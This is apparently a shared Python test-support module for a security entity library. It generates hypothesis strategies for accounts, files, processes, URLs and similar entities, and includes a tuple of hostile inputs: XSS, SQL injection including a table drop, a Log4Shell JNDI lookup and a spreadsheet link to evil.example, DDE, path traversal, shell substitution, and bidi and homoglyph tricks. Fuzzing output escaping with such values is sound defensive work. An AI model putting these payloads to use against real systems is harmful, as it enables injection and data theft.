"""What several tests share: hostile values, made-up entities, and a reader of HTML that trusts nothing."""

from __future__ import annotations

from datetime import UTC, datetime
from html.parser import HTMLParser
from typing import Any

from hypothesis import settings
from hypothesis import strategies as st

from clew.entities import (
    Account,
    Alert,
    AttackTechnique,
    AutonomousSystem,
    Certificate,
    Domain,
    Entity,
    File,
    Host,
    Incident,
    IpAddress,
    Process,
    Url,
    Vulnerability,
)
from clew.errors import EntityError

#: For properties over a whole registry, or of something slow: a fifth of the examples of the profile in force.
FEWER = settings(max_examples=settings().max_examples // 5)

# Each breaks something that trusts it: HTML, a terminal, SQL, a shell, a spreadsheet, a template, a path, a parser.
HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>',
    "' onmouseover='alert(1)",
    "</td></table><iframe src=//evil.example>",
    "javascript:alert(1)",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "&lt;b&gt;&#x3c;script&#x3e;",
    "' OR '1'='1",
    "'; DROP TABLE events; --",
    "x') UNION SELECT * FROM events --",
    "$clew_limit",
    "$1 :name ?",
    "/* */ ; SELECT 1",
    "%' ESCAPE '\\' --",
    "\\'; COPY events TO '/tmp/clew-canary",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}{% raw %}",
    '=HYPERLINK("https://evil.example","x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "../../../../etc/passwd",
    "$(touch /tmp/clew-canary)`id`",
    "\x1b[31mred\x1b]0;title\x07",
    "\r\nSet-Cookie: a=b",
    "a\x00b",
    "abc\u202egnp.exe",
    "\u2066isolated\u2069\u200b\u200d\ufeff",
    "lone \ud800 surrogate",
    "\u0430\u0440\u0440\u04cfe.example",
    "\U0001f600\u0301" * 20,
    "A" * 20_000,
    " \t\u3000\u00a0 ",
)

# Bidirectional controls, zero-width and invisible characters, C0 and C1 controls, DEL.
HIDING = frozenset(
    [chr(code) for code in (*range(0x20), *range(0x7F, 0xA0), *range(0x200B, 0x2010), *range(0x2028, 0x202F))]
    + [chr(code) for code in (*range(0x2060, 0x2070), *range(0xD800, 0xE000), 0x061C, 0xFEFF, 0x00AD)]
)
TAGS = {"b", "caption", "div", "p", "table", "tbody", "td", "th", "thead", "tr"}


def hiding(text: str) -> set[str]:
    """The characters of a shown text that move, hide or command; a line break is layout of ours."""
    return HIDING & set(text) - {"\n"}


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found += [f"<{tag}>"] if tag not in TAGS else []
        self.found += [f"{name}={value}" for name, value in attrs if (name, value) != ("style", "text-align:left")]

    def handle_comment(self, data: str) -> None:
        self.found.append(f"<!--{data}")

    def handle_decl(self, decl: str) -> None:
        self.found.append(f"<!{decl}")

    def handle_pi(self, data: str) -> None:
        self.found.append(f"<?{data}")


def active(html: str) -> list[str]:
    """What of a parsed HTML fragment is more than text in tables: other tags, other attributes, comments."""
    reader = _Reader()
    reader.feed(html)
    reader.close()
    return reader.found


# --- entities --------------------------------------------------------------------------------------------------------

_letters = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"
labels = st.text(_letters + "0123456789-_\u00fc\u00df\u0436", min_size=1, max_size=12).filter(
    lambda text: text[0] not in "-_0123456789" and text[-1] not in "-_" and "--" not in text
)
domains = st.lists(labels, min_size=2, max_size=4).map(".".join)
hosts = st.one_of(labels, domains)
texts = st.one_of(st.sampled_from(HOSTILE), st.text(max_size=30)).filter(str.strip)
moments = st.datetimes(datetime(1970, 1, 2), datetime(2200, 1, 1), timezones=st.just(UTC))  # noqa: DTZ001
addresses = st.one_of(st.ip_addresses().map(str), st.ip_addresses(v=4).map(lambda ip: f"::ffff:{ip}"))
guids = st.uuids().map(lambda guid: f"{{{str(guid).upper()}}}")
sids = st.lists(st.integers(1, 2**32 - 1), min_size=4, max_size=5).map(
    lambda ids: "S-1-5-21-" + "-".join(map(str, ids))
)
upns = st.tuples(labels, domains).map("@".join)
logons = st.tuples(labels, labels).map("\\".join)
urls = st.builds(
    lambda scheme, host, path: f"{scheme}://{host}{path}",
    st.sampled_from(("http", "hxxps", "ftp", "HTTPS")),
    st.one_of(domains, st.ip_addresses(v=4).map(str), st.ip_addresses(v=6).map("[{}]".format)),
    st.text("/ab.?#%[](){}'\\:@&=\u00fc\u202e", max_size=20).map(lambda path: f"/{path}"),
)


def _hash(length: int) -> st.SearchStrategy[str]:
    return st.text("0123456789abcdefABCDEF", min_size=length, max_size=length)


def _optional(**fields: st.SearchStrategy[Any]) -> st.SearchStrategy[dict[str, Any]]:
    return st.fixed_dictionaries({}, optional=fields)


def _made(cls: type[Entity], **fields: Any) -> Entity | None:
    """None where hypothesis found what cannot be such an entity, such as a label that IDNA refuses."""
    try:
        return cls(**fields)
    except EntityError:
        return None


def _many(cls: type[Entity], *fields: st.SearchStrategy[dict[str, Any]]) -> st.SearchStrategy[Entity]:
    joined = st.tuples(*fields).map(lambda parts: {name: value for part in parts for name, value in part.items()})
    return joined.map(lambda given: _made(cls, **given)).filter(lambda made: made is not None)


def _one(name: str, values: st.SearchStrategy[Any]) -> st.SearchStrategy[dict[str, Any]]:
    return st.fixed_dictionaries({name: values})


_hashes = _optional(sha512=_hash(128), sha256=_hash(64), sha1=_hash(40), md5=_hash(32), size=st.integers(0, 2**50))
_account = _optional(upn=upns, name=st.one_of(logons, labels), host=hosts)

_case_ids = st.tuples(labels, texts).map(":".join)

#: Entities of every kind, with any of their fields.
ENTITIES: dict[str, st.SearchStrategy[Entity]] = {
    "account": st.one_of(
        _many(Account, _one("sid", st.one_of(sids, st.sampled_from(("S-1-5-18", "s-1-5-32-544")))), _account),
        _many(Account, _one("value", st.one_of(upns, logons)), _optional(host=hosts)),
        _many(Account, st.fixed_dictionaries({"value": labels, "host": hosts})),
    ),
    "alert": _many(Alert, _one("value", _case_ids), _optional(title=texts)),
    "asn": _many(AutonomousSystem, _one("value", st.integers(0, 2**32 - 1).map("AS{}".format)), _optional(name=texts)),
    "certificate": _many(
        Certificate,
        st.one_of(_one("sha256", _hash(64)), _one("sha1", _hash(40))),
        _optional(sha1=_hash(40), subject=texts, issuer=texts, serial=_hash(20), not_before=moments, not_after=moments),
    ),
    "domain": _many(Domain, _one("value", domains)),
    "file": st.one_of(
        _many(File, _hashes, _optional(path=texts, host=hosts)),
        _many(File, st.fixed_dictionaries({"path": texts, "host": hosts})),
    ),
    "host": _many(Host, _one("value", hosts), _optional(netbios=labels, os=texts)),
    "incident": _many(Incident, _one("value", _case_ids), _optional(title=texts)),
    "ip": _many(IpAddress, _one("value", addresses)),
    "process": st.one_of(
        _many(
            Process,
            st.fixed_dictionaries({"value": guids, "host": hosts}),
            _optional(pid=st.integers(0, 2**32 - 1), started=moments, image=texts, command_line=texts),
        ),
        _many(
            Process,
            st.fixed_dictionaries({"pid": st.integers(0, 2**32 - 1), "started": moments, "host": hosts}),
            _optional(image=texts, command_line=texts),
        ),
    ),
    "technique": _many(
        AttackTechnique,
        _one("value", st.from_regex(r"[tT][0-9]{4}(\.[0-9]{3})?", fullmatch=True)),
        _optional(name=texts),
    ),
    "url": _many(Url, _one("value", urls)),
    "vulnerability": _many(
        Vulnerability,
        _one("value", st.from_regex(r"(CVE|cve)-[0-9]{4}-[0-9]{4,19}", fullmatch=True)),
        _optional(name=texts),
    ),
}
entities = st.one_of(list(ENTITIES.values()))
